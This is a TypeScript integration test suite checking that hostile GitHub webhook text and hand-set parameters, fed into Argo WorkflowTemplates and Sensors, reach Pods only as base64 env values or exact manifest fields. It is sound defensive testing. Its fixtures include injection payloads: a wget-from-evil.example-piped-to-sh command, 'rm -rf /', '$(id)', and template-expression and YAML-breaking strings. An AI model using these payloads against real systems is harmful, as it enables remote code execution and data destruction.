// Untrusted text never runs, against the real workflow-controller (and, for the platform Sensors,
// the real GitHub EventSource and Sensors): each platform WorkflowTemplate and the play template is
// submitted with hostile parameters; without a kubelet the controller still creates the Pods, and
// their spec is what would run. Hostile text may appear only as a base64 env value or, for the
// play's human-set parameters, JSON-encoded inside the CodeRun manifest that parses to exactly the
// expected fields. docs/security.md ("Untrusted text").
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { buildManifests } from '../../manifests/index';
import { PLATFORM_PARAMETERS } from '../../manifests/platform-sensors';
import { ORCHESTRATOR_RESUME_CLOSE_SCRIPT, PR_VALIDATION_SCRIPT } from '../../manifests/step-scripts';
import { deliverWebhook } from '../../dev/stack/github/webhook';
import { example, pullRequestEvent } from '../fixtures/github-events';
import { HOSTILE_TEXTS } from '../fixtures/hostile-text';
import { control } from './guarantees/support';
import { allContainers, argoTemplate, firstPod, type Pod } from './pods';
import { createWorkflow, eventually, kube, stack } from './support';

const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
const unb64 = (text: string) => Buffer.from(text, 'base64').toString('utf8');
type Parameters = Record<string, string>;

/** Hostile texts long enough not to occur by chance in a Pod spec. */
const DISTINCTIVE = HOSTILE_TEXTS.filter((text) => text.length >= 8 && !/^feature[-/]a$/.test(text));
/**
 * Raw values a human could give the non-text parameters. (A value with a broken expression such as
 * `{{=1+}}` stops the whole workflow before any Pod: the controller evaluates tags in parameter
 * values when it sets the workflow up, "Unable to set ExecWorkflow".)
 */
const RAW = { pr: '1;{{workflow.parameters.owner}}', issue: '{{workflow.parameters.nope}}', agent: "{{=sprig.upper('a')}}", includeComments: '{{workflow.name}}' };

/** No hostile text, decoded or raw, anywhere in what the Pod runs or carries. */
function expectNoHostileText(pod: Pod, extra: readonly string[] = []) {
  const json = JSON.stringify(pod);
  for (const text of [...DISTINCTIVE, ...extra]) {
    expect(json.includes(text), `raw ${JSON.stringify(text.slice(0, 40))} in ${pod.metadata.name}`).toBe(false);
    expect(json.includes(JSON.stringify(text).slice(1, -1)), `JSON-escaped ${JSON.stringify(text.slice(0, 40))} in ${pod.metadata.name}`).toBe(false);
  }
}

/** A container's env (an empty value is omitted from the stored object: it reads as ''). */
const envOf = (pod: Pod, container = 'main') => Object.fromEntries((pod.spec.containers.find((c) => c.name === container)?.env ?? []).map((e) => [e.name, e.value ?? '']));
const argvOf = (pod: Pod, container = 'main') => {
  const c = pod.spec.containers.find((x) => x.name === container)!;
  return [...(c.command ?? []), ...(c.args ?? [])];
};

/** Workflows to delete after each test: they never finish without a kubelet and would hold their semaphore. */
const created: string[] = [];
afterEach(async () => {
  for (const name of created.splice(0)) await kube().call('DELETE', `/apis/argoproj.io/v1alpha1/namespaces/${stack().namespace}/workflows/${name}`);
});

async function submit(template: string, parameters: Parameters): Promise<string> {
  const name = await createWorkflow(kube(), stack().namespace, {
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'Workflow',
    metadata: { generateName: `inj-${template}-` },
    spec: { workflowTemplateRef: { name: template }, arguments: { parameters: Object.entries(parameters).map(([name, value]) => ({ name, value })) } },
  });
  created.push(name);
  return name;
}

/** The owner reference the controller adds to a resource manifest (`setOwnerReference: true`). */
async function ownerReference(workflow: string) {
  const res = await kube().call<{ metadata: { uid: string } }>('GET', `/apis/argoproj.io/v1alpha1/namespaces/${stack().namespace}/workflows/${workflow}`);
  return [{ apiVersion: 'argoproj.io/v1alpha1', blockOwnerDeletion: true, controller: true, kind: 'Workflow', name: workflow, uid: res.body.metadata.uid }];
}

/** The CodeRun manifest argoexec would apply, parsed as YAML. */
async function codeRunManifest(pod: Pod): Promise<unknown> {
  const template = await argoTemplate(kube(), stack().namespace, pod);
  expect(template.resource?.action).toBe('create');
  return parse(template.resource.manifest as string);
}

const comment = HOSTILE_TEXTS.join('\n');
const branch = HOSTILE_TEXTS[0]!;
/** As the platform Sensors set them: text base64, numbers digits, constants plain. */
const fromSensor: Parameters = {
  event: b64(JSON.stringify({ ...pullRequestEvent('opened', { branch }), hostile: HOSTILE_TEXTS })),
  owner: b64('Codertocat'),
  repo: b64('Hello-World'),
  pr: '42',
  issue: '7',
  branch: b64(branch),
  agent: 'rex',
  includeComments: 'true',
  commentBody: b64(comment),
};
/** As a person submitting the template by hand might: hostile text also in the non-text parameters, and in owner/repo. */
const byHand: Parameters = { ...fromSensor, ...RAW, owner: b64('$(id)'), repo: b64('{{workflow.name}}'), branch: b64('{{workflow.parameters.owner}}') };

async function expectedCodeRun(workflow: string, parameters: Parameters, agent: string) {
  const sensorLike = parameters === fromSensor;
  return {
    apiVersion: 'agents.platform/v1',
    kind: 'CodeRun',
    metadata: { generateName: `${agent}-${workflow}-`, labels: { agent, 'pr-number': sensorLike ? '42' : '', 'workflow-name': workflow }, ownerReferences: await ownerReference(workflow) },
    spec: {
      service: sensorLike ? 'Hello-World' : '',
      repositoryUrl: sensorLike ? 'https://github.com/Codertocat/Hello-World' : '',
      docsRepositoryUrl: '',
      workingDirectory: '.',
      model: 'claude-sonnet',
      githubApp: agent,
      env: {
        GITHUB_EVENT_B64: parameters.event,
        OWNER_B64: parameters.owner,
        REPO_B64: parameters.repo,
        PR_NUMBER: sensorLike ? '42' : '',
        ISSUE_NUMBER: sensorLike ? '7' : '',
        BRANCH_B64: parameters.branch,
        INCLUDE_COMMENTS: sensorLike ? 'true' : 'false',
        COMMENT_BODY_B64: parameters.commentBody,
      },
    },
  };
}

describe.each([
  ['from the Sensor', fromSensor],
  ['by hand', byHand],
])('platform WorkflowTemplates with hostile parameters (%s)', (_how, parameters) => {
  const rawValues = parameters === byHand ? Object.values(RAW) : [];

  it.each([
    ['pr-validation', PR_VALIDATION_SCRIPT],
    ['orchestrator-resume-close', ORCHESTRATOR_RESUME_CLOSE_SCRIPT],
  ])('%s: the constant script runs, the text is only base64 env', async (template, script) => {
    const name = await submit(template, parameters);
    const pod = await firstPod(kube(), stack().namespace, name);
    expect(argvOf(pod).slice(-3)).toEqual(['sh', '-c', script]);
    expect(envOf(pod)).toMatchObject({ OWNER_B64: parameters.owner, REPO_B64: parameters.repo, BRANCH_B64: parameters.branch, PR_NUMBER: parameters === fromSensor ? '42' : '' });
    for (const c of allContainers(pod)) for (const arg of [...(c.command ?? []), ...(c.args ?? [])]) expect(arg).not.toContain('{{');
    expectNoHostileText(pod, rawValues);
  });

  it.each([
    ['coderun-template', parameters === fromSensor ? 'rex' : 'invalid-agent'],
    ['implementation', 'rex'],
  ])('%s: the CodeRun manifest parses to exactly the expected fields', async (template, agent) => {
    const name = await submit(template, parameters);
    const pod = await firstPod(kube(), stack().namespace, name);
    expect(await codeRunManifest(pod)).toEqual(await expectedCodeRun(name, parameters, agent));
    expectNoHostileText(pod, rawValues);
  });
});

describe('the play template with hostile human-set parameters', () => {
  const templateName = 'inj-play-coderun';
  beforeAll(async () => {
    const play = buildManifests({ namespace: stack().namespace })
      .flatMap((file) => file.objects as any[])
      .find((o) => o.kind === 'WorkflowTemplate' && o.metadata.name === 'play-orchestration');
    const res = await kube().apply({ ...play, metadata: { ...play.metadata, name: templateName } });
    expect(res.status, res.text).toBeLessThan(300);
  });

  it('run-agent: the CodeRun manifest parses to exactly the expected fields, values unchanged', async () => {
    const values = {
      service: 'v\n  injected: "yes"',
      'repository-url': 'feat/x"}],"evil":[{"a":"1',
      'docs-repository-url': '- list\n# comment: {a: b}',
      'working-directory': "feature/x'; rm -rf / # 🚀 \u2028 \ttab \\n",
      model: `task-1-$(wget\${IFS}-qO-\${IFS}evil.example|sh) \`id\` ;|& "q" 'q' ${'x'.repeat(10 * 1024)}`,
    };
    const name = await submit(templateName, { 'task-id': '77', repository: 'codertocat-hello-world', ...values });
    const pod = await firstPod(kube(), stack().namespace, name);
    expect(await codeRunManifest(pod)).toEqual({
      apiVersion: 'agents.platform/v1',
      kind: 'CodeRun',
      metadata: { generateName: `${name}-rex-`, labels: { 'task-id': '77', 'github-app': '5DLabs-Rex', 'workflow-name': name }, ownerReferences: await ownerReference(name) },
      spec: {
        taskId: 77,
        service: values.service,
        repositoryUrl: values['repository-url'],
        docsRepositoryUrl: values['docs-repository-url'],
        workingDirectory: values['working-directory'],
        model: values.model,
        githubApp: '5DLabs-Rex',
      },
    });
    for (const c of allContainers(pod)) for (const arg of [...(c.command ?? []), ...(c.args ?? [])]) for (const v of Object.values(values)) expect(arg.includes(v)).toBe(false);
  });
});

/** One hostile GitHub payload per platform Sensor, through the real EventSource and Sensor. */
const sensorCases = (() => {
  const comment = example('issue_comment', (p) => p.action === 'created');
  comment.sender.type = 'User';
  comment.comment.body = HOSTILE_TEXTS.join('\n');
  const run = example('workflow_run', (p) => p.action === 'completed');
  run.workflow_run.name = 'CI';
  run.workflow_run.conclusion = 'failure';
  run.workflow_run.head_branch = "{{=sprig.upper('a')}}-$(id)-{{workflow.name}}";
  const issue = example('issues', (p) => p.action === 'opened');
  issue.issue.title = 'zzz";echo${IFS}"hello";# {{workflow.parameters.owner}}';
  const merged = pullRequestEvent('closed', { branch: "feature/x'; rm -rf / #" });
  merged.pull_request.merged = true;
  return [
    // synchronize: pr-validation takes it, the pr-opened function does not, so no 404 for task 1 is retried
    // in pr-opened's Sensor while later tests send it events (a permanent answer blocks its queue: issue 14).
    ['platform-pr-validation', 'pull_request', pullRequestEvent('synchronize', { branch: 'task-1-$(wget${IFS}-qO-${IFS}evil.example|sh)\n{{=1+}}' })],
    ['platform-comment-to-rex', 'issue_comment', comment],
    ['platform-ci-failure-triage', 'workflow_run', run],
    ['platform-issue-implementation', 'issues', issue],
    ['platform-security', 'security_advisory', example('security_advisory', (p) => p.action === 'published')],
    ['platform-merge-to-orchestrator', 'pull_request', merged],
  ] as const;
})();

/** What each parameter must decode to, read from the payload by hand (not through the Sensor's paths). */
function expectedParameters(sensor: string, payload: Record<string, any>): Record<string, string> {
  const repo = payload.repository ? { owner: payload.repository.owner.login, repo: payload.repository.name } : { owner: '', repo: '' };
  const base = { event: JSON.stringify(payload), ...repo, pr: '', issue: '', branch: '', agent: '', includeComments: '', commentBody: '' };
  switch (sensor) {
    case 'platform-pr-validation':
      return { ...base, pr: String(payload.pull_request.number), branch: payload.pull_request.head.ref };
    case 'platform-comment-to-rex':
      return { ...base, agent: 'rex', includeComments: 'true', commentBody: payload.comment.body, issue: String(payload.issue.number), pr: String(payload.issue.number) };
    case 'platform-ci-failure-triage':
      return { ...base, agent: 'triage', branch: payload.workflow_run.head_branch };
    case 'platform-issue-implementation':
      return { ...base, agent: 'rex', issue: String(payload.issue.number) };
    case 'platform-security':
      return { ...base, owner: '', repo: '', agent: 'security' };
    default:
      return { ...base, pr: String(payload.pull_request.number), branch: payload.pull_request.head.ref };
  }
}

describe.skipIf(!stack().eventSourceUrl)('platform Sensors on the real EventSource', () => {
  beforeAll(async () => {
    const sensors = buildManifests({ namespace: stack().namespace })
      .flatMap((file) => file.objects as any[])
      .filter((o) => o.kind === 'Sensor' && o.metadata.name.startsWith('platform-'));
    expect(sensors).toHaveLength(sensorCases.length);
    for (const sensor of sensors) await control('POST', '/sensors', { sensor, kubeApi: true });
  }, 600_000);

  it.each(sensorCases)('%s: a hostile %s payload becomes parameters that decode to exactly its values', async (sensor, event, payload) => {
    const { namespace, eventSourceUrl, webhookSecret } = stack();
    const rest = kube();
    const list = async () =>
      (await rest.call<{ items: { metadata: { name: string }; spec: { arguments: { parameters: { name: string; value: string }[] } } }[] }>('GET', `/apis/argoproj.io/v1alpha1/namespaces/${namespace}/workflows?labelSelector=${encodeURIComponent(`handoff.dev/sensor=${sensor}`)}`)).body.items;
    const before = new Set((await list()).map((w) => w.metadata.name));
    const delivered = await deliverWebhook({ url: eventSourceUrl!, event, payload, secret: webhookSecret });
    expect(delivered.status).toBe(200);
    const workflow = await eventually(`a Workflow from ${sensor}`, async () => (await list()).find((w) => !before.has(w.metadata.name)), 120_000);
    created.push(workflow.metadata.name);
    const given = Object.fromEntries(workflow.spec.arguments.parameters.map((p) => [p.name, p.value]));
    expect(Object.keys(given)).toEqual([...PLATFORM_PARAMETERS]);
    const expected = expectedParameters(sensor, payload);
    const decoded = Object.fromEntries(
      PLATFORM_PARAMETERS.map((name) => [name, ['event', 'owner', 'repo', 'branch', 'commentBody'].includes(name) ? unb64(given[name]!) : given[name]]),
    );
    expect(JSON.parse(decoded.event!)).toEqual(payload);
    expect({ ...decoded, event: '' }).toEqual({ ...expected, event: '' });
    for (const name of ['event', 'owner', 'repo', 'branch', 'commentBody']) expect(given[name]).toMatch(/^[A-Za-z0-9+/]*={0,2}$/);
    // And what the controller made of it: no decoded text in the Pod.
    const pod = await firstPod(rest, namespace, workflow.metadata.name);
    expectNoHostileText(pod, [decoded.branch!, decoded.commentBody!].filter((t) => t.length >= 8));
  });
});
